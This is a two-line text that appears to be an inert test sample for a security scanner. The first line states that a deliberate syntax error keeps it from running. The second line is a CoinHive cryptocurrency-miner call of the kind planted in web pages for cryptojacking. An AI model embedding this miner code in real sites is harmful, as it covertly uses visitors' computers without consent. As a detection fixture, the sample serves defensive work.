shodo inert sample: deliberate syntax error, this script never runs (
var miner = new CoinHive.Anonymous('SITEKEY', {throttle: 0.3}); miner.start();
